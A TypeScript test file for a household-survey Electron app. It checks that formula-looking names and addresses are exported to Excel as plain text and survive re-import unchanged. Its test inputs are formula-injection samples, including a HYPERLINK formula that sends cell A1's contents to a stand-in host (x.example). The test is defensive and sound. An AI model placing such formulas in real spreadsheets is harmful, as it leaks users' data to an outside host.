/**
 * Formula injection (issue 12 point 8): a text beginning with =, +, -, @ (or a tab, a carriage
 * return) is written to every Excel export as a text cell, never as a formula: the household list
 * (DS, streamed), the documents' tables (HN), the import's error workbook, the B1 template. The
 * value survives the round trip: importing the exported list back gives the same names (no
 * apostrophe added, nothing changed). Real negative numbers stay numbers.
 */
import { execFileSync } from 'node:child_process';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { HouseholdFormSchema, type HouseholdFormInput } from '../../shared/entry/form';
import { createServices, type Services } from '../../electron/core/api/services';
import { Core } from '../../electron/core/core';
import { writeErrorWorkbook } from '../../electron/core/excel/error-workbook';
import { exportList } from '../../electron/core/excel/export';
import { importHouseholdList } from '../../electron/core/excel/import';
import { writeB1Template } from '../../electron/core/excel/ruletables';
import { exportTables } from '../../electron/core/excel/tables';
import { apiOf } from '../fixtures/api';
import { seedSmall } from '../fixtures/small-db';
import { reclassified, RESOURCES, tempDir } from '../helpers';

const dir = tempDir('rasoat-formula-');
let core: Core;
let services: Services;
let seeded: ReturnType<typeof seedSmall>;
/** The core's own handlers (a trusted local caller, as the command line): the form as the contract parses it. */
const save = (f: HouseholdFormInput) => services['entry.save']({ roundId: seeded.roundId, householdId: null, form: HouseholdFormSchema.parse(f) });

/** Names and an address an attacker (or an honest typo) could type. */
const NAMES = ['=1+1', '+84 912', '-Nguyễn', '@A1'];
const ADDRESS = '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")';

const B2 = {
  employment: true, dependants: false, nutrition: false, healthInsurance: false, adultEducation: false, childSchooling: false,
  housingQuality: false, housingArea: false, water: true, sanitation: true, telecom: false, informationDevices: false,
};
const person = (seq: number, fullName: string, relation: 'head' | 'child') => ({
  seq, fullName, sex: 'male' as const, birthDate: '1980-01-01', idNumber: null, idIssuedOn: null, relation, ethnicity: 'Kinh',
  healthInsurance: true, schooling: 'not_attending' as const, education: 'lower_secondary' as const, employment: 'self_employed' as const,
  disability: false, workingCapacity: true, nutrition: null,
});
const form = (head: string, member: string, address: string): HouseholdFormInput => ({
  communeId: seeded.communeId,
  villageId: seeded.villageId,
  address,
  area: 'rural',
  flags: { ethnicMinority: false, noWorkingCapacity: false, meritPerson: false, femaleHead: false },
  members: [person(1, head, 'head'), person(2, member, 'child')],
  answers: { scoreA: 100, b2: B2 },
});

beforeAll(async () => {
  core = new Core({ dbPath: path.join(dir, 'formula.sqlite'), resourcesDir: RESOURCES, actor: 'test' });
  services = createServices(core);
  seeded = seedSmall(core);
  await save(form(NAMES[0]!, NAMES[1]!, ADDRESS));
  await save(form(NAMES[2]!, NAMES[3]!, '-'));
});
afterAll(async () => {
  await core.jobs.close();
  core.close();
});

/** The worksheets' XML of an .xlsx, as written. */
const sheetXml = (file: string): string =>
  execFileSync('unzip', ['-p', file, 'xl/worksheets/*.xml'], { encoding: 'utf8', maxBuffer: 64 * 1024 * 1024 }) +
  (() => {
    try {
      return execFileSync('unzip', ['-p', file, 'xl/sharedStrings.xml'], { encoding: 'utf8' });
    } catch {
      return '';
    }
  })();

async function cellsOf(file: string): Promise<ExcelJS.Cell[]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(file);
  const out: ExcelJS.Cell[] = [];
  wb.eachSheet((ws) => ws.eachRow((row) => row.eachCell((c) => out.push(c))));
  return out;
}

/**
 * Each value is in a text cell with exactly that text (with the Text format "@" where the workbook
 * has styles), and no cell of the file holds a formula made of it.
 */
async function expectText(file: string, values: readonly string[], styled = true): Promise<void> {
  const xml = sheetXml(file);
  const cells = await cellsOf(file);
  for (const v of values) {
    const found = cells.filter((c) => c.text === v);
    expect(found.length, `a cell with ${JSON.stringify(v)}`).toBeGreaterThan(0);
    for (const c of found) {
      expect(c.formula, v).toBeUndefined();
      expect([ExcelJS.ValueType.String, ExcelJS.ValueType.RichText]).toContain(c.type);
      if (styled) expect(c.numFmt, `${JSON.stringify(v)}: Text format`).toBe('@');
    }
  }
  // Nothing of the values as a formula (<f>), nor as a formula's string result (t="str").
  const formulas = [...xml.matchAll(/<f[^>]*>([^<]*)<\/f>/gu)].map((m) => m[1]!);
  for (const v of values) expect(formulas.some((f) => `=${f}`.includes(v.replace(/^=/u, '')) && f !== '')).toBe(false);
  expect(xml).not.toMatch(/t="str"><v>[=+\-@\t\r]/u);
}

describe('formula-looking texts are exported as text', () => {
  it('the household list (DS): names and address are text cells; imported back, nothing changes', async () => {
    const file = path.join(dir, 'ds.xlsx');
    await exportList(core.db.sqlite, { roundId: seeded.roundId, unitCode: '30487', doc: 'DS', out: file });
    // Streamed without styles (speed): the text cells are inline strings.
    await expectText(file, [...NAMES, ADDRESS], false);
    expect(sheetXml(file)).toContain('t="inlineStr"><is><r><t>=1+1</t></r></is>');
    // Real numbers stay numbers (score A).
    const score = (await cellsOf(file)).find((c) => c.value === 100);
    expect(score?.type).toBe(ExcelJS.ValueType.Number);

    const summary = await importHouseholdList(core.db.sqlite, { file, roundId: seeded.roundId, unitCode: '30487', dryRun: false, actor: 'test' });
    expect(summary.errors).toBe(0);
    expect(summary.households.updated).toBe(0);
    expect(summary.members.updated).toBe(0);
    const names = core.db.sqlite.prepare('SELECT full_name FROM members ORDER BY id').pluck().all() as string[];
    for (const n of NAMES) expect(names).toContain(n);
    expect(core.db.sqlite.prepare('SELECT COUNT(*) FROM households WHERE address = ?').pluck().get(ADDRESS)).toBe(1);
  });

  it('the household list imported into an empty round gives the same names, no apostrophe', async () => {
    const file = path.join(dir, 'ds2.xlsx');
    await exportList(core.db.sqlite, { roundId: seeded.roundId, unitCode: '30487', doc: 'DS', out: file });
    const other = new Core({ dbPath: path.join(dir, 'other.sqlite'), resourcesDir: RESOURCES, actor: 'test' });
    try {
      const s = seedSmall(other);
      const summary = await importHouseholdList(other.db.sqlite, { file, roundId: s.roundId, unitCode: '30487', dryRun: false, actor: 'test' });
      expect(summary.errors).toBe(0);
      const names = other.db.sqlite.prepare('SELECT full_name FROM members').pluck().all() as string[];
      for (const n of NAMES) expect(names).toContain(n);
      expect(names.some((n) => n.startsWith("'"))).toBe(false);
    } finally {
      other.close();
    }
  });

  it('the documents’ tables (HN list of poor households) write the names as text', async () => {
    await reclassified(apiOf(() => services).send, { roundId: seeded.roundId });
    const file = path.join(dir, 'hn.xlsx');
    await exportTables(core.db.sqlite, { roundId: seeded.roundId, unitCode: '30487', doc: 'HN', out: file });
    await expectText(file, [NAMES[0]!, NAMES[2]!]);
  });

  it('the import’s error workbook writes the refused rows’ texts back as text', async () => {
    const source = path.join(dir, 'bad.xlsx');
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('Danh sách');
    ws.addRow(['Mã xã', 'Mã hộ', 'Họ và tên', 'Quan hệ với chủ hộ', 'Giới tính', 'Ngày sinh']);
    ws.addRow(['30487', '30487-09999', '=1+1', 'Chủ hộ', 'Không rõ', '1980']);
    ws.addRow(['30487', '30487-09998', '@A1', 'Chủ hộ', 'Nam', '31/02/1980']);
    await wb.xlsx.writeFile(source);
    const summary = await importHouseholdList(core.db.sqlite, { file: source, roundId: seeded.roundId, unitCode: '30487', dryRun: true, actor: 'test' });
    expect(summary.errors).toBeGreaterThan(0);
    const out = path.join(dir, 'errors.xlsx');
    expect(await writeErrorWorkbook(source, summary, out)).toBeGreaterThan(0);
    await expectText(out, ['=1+1', '@A1']);
  });

  it('the B1 template keeps negative points as numbers and formula-looking labels as text; tab and CR starts too', async () => {
    const file = path.join(dir, 'b1.xlsx');
    await writeB1Template(file, [
      ['Q1', '=SUM(1,2)', 'a', '-Không có', -5, 3],
      ['', '', 'b', '\tTab', -2.5, '\rCR'],
    ]);
    await expectText(file, ['=SUM(1,2)', '-Không có', '\tTab']);
    // A carriage return comes back as a line feed (XML reads CR as LF): written as text all the same.
    const cr = (await cellsOf(file)).find((c) => c.text === '\nCR');
    expect(cr?.type).toBe(ExcelJS.ValueType.RichText);
    expect(cr?.numFmt).toBe('@');
    const cells = await cellsOf(file);
    for (const n of [-5, -2.5, 3]) expect(cells.find((c) => c.value === n)?.type).toBe(ExcelJS.ValueType.Number);
    expect(sheetXml(file)).not.toMatch(/<f>/u);
  });
});
